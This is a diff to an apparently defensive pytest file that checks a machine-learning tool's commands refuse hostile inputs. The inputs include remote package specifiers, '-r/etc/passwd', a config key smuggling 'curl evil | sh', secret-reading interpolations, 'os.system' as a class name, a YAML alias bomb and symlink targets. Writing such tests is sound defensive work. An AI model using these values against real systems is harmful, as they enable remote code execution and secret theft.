@@ -15,6 +15,8 @@ from pathlib import Path
 import pytest
 import runs
 
+pytestmark = pytest.mark.faults
+
 COMMANDS = {
     "evaluate": lambda run, tmp: [f"run={run}"],
     "recommend": lambda run, tmp: [f"run={run}", "user=001"],
@@ -117,9 +119,13 @@ def with_data(package: str, root: str = "null") -> Callable[[str], str]:
     return lambda text: re.sub(r"^data:\n(?:  .*\n)*", lambda _: node, text, flags=re.MULTILINE)
 
 
-@pytest.mark.parametrize("module", COMMANDS)
 @pytest.mark.parametrize(
-    "package", ["./canary", "x @ http://127.0.0.1:9/canary.tar.gz", "--index-url=http://127.0.0.1:9", "-r/etc/passwd", "toy==1.0"]
+    ("module", "package"),
+    zip(
+        COMMANDS,
+        ["./canary", "x @ http://127.0.0.1:9/canary.tar.gz", "--index-url=http://127.0.0.1:9", "-r/etc/passwd", "toy==1.0"],
+        strict=True,
+    ),
 )
 def test_no_package_is_fetched(theirs: Path, run: Path, module: str, package: str) -> None:
     (run.parent / "home" / "canary").mkdir(parents=True)
@@ -140,22 +146,25 @@ def test_no_path_is_read_unless_it_is_given_again(theirs: Path, run: Path, modul
     assert "not made here" not in given.stdout + given.stderr
 
 
-@pytest.mark.parametrize("module", COMMANDS)
 @pytest.mark.parametrize(
-    ("change", "message"),
+    ("module", "change", "message"),
     [
         (
             lambda text: text.replace("experiment: smoke", 'experiment: "\\x24{oc.env:SECRET}"'),
             "experiment holds an interpolation",
         ),
-        (lambda text: text.replace("experiment: smoke", "experiment: ${oc.env:SECRET}"), "experiment holds an interpolation"),
-        (lambda text: text + '"a\\ncurl evil | sh\\n": 1\n', r"the key 'a\\\\?ncurl evil"),
-        (lambda text: f"format: 2\n{BOMB}", "anchor or an alias"),
-        (lambda text: text.replace("format: 2\n", ""), "the format of runs has changed"),
-        (lambda text: re.sub("cold_jax.splits.entities.\\w+", "cold_jax.data.tables.Tables", text), "is no choice of"),
-        (lambda text: re.sub("cold_jax.splits.entities.\\w+", "os.system", text), "is no choice of"),
-        (lambda text: text + "x" * 300_000, "300,|more than the 262,144"),
-        (lambda text: "format: 2\na: " + "[" * 1000, "nested more than 64 deep"),
+        (
+            "evaluate",
+            lambda text: text.replace("experiment: smoke", "experiment: ${oc.env:SECRET}"),
+            "experiment holds an interpolation",
+        ),
+        ("recommend", lambda text: text + '"a\\ncurl evil | sh\\n": 1\n', r"the key 'a\\\\?ncurl evil"),
+        ("search", lambda text: f"format: 2\n{BOMB}", "anchor or an alias"),
+        ("export", lambda text: text.replace("format: 2\n", ""), "the format of runs has changed"),
+        ("train", lambda text: re.sub("cold_jax.splits.entities.\\w+", "cold_jax.data.tables.Tables", text), "is no choice of"),
+        ("evaluate", lambda text: re.sub("cold_jax.splits.entities.\\w+", "os.system", text), "is no choice of"),
+        ("recommend", lambda text: text + "x" * 300_000, "300,|more than the 262,144"),
+        ("search", lambda text: "format: 2\na: " + "[" * 1000, "nested more than 64 deep"),
     ],
     ids=["hex", "plain", "newline", "bomb", "old", "class", "code", "size", "depth"],
 )
@@ -164,10 +173,18 @@ def test_no_config_is_more_than_data(theirs: Path, run: Path, module: str, chang
     one_line(command(theirs, run, module), message)
 
 
-@pytest.mark.parametrize("module", ["train", "evaluate", "search"])
 @pytest.mark.parametrize(
-    "name",
-    ["cold_jax.log", "metrics.jsonl", "config.yaml", "lock", "checkpoints", "search_title", "wandb_id.txt", "results.json"],
+    ("module", "name"),
+    [
+        ("train", "cold_jax.log"),
+        ("evaluate", "metrics.jsonl"),
+        ("search", "config.yaml"),
+        ("train", "lock"),
+        ("evaluate", "checkpoints"),
+        ("search", "search_title"),
+        ("train", "wandb_id.txt"),
+        ("export", "results.json"),
+    ],
 )
 def test_no_link_is_followed(theirs: Path, run: Path, module: str, name: str) -> None:
     target = run.parent / "bashrc"
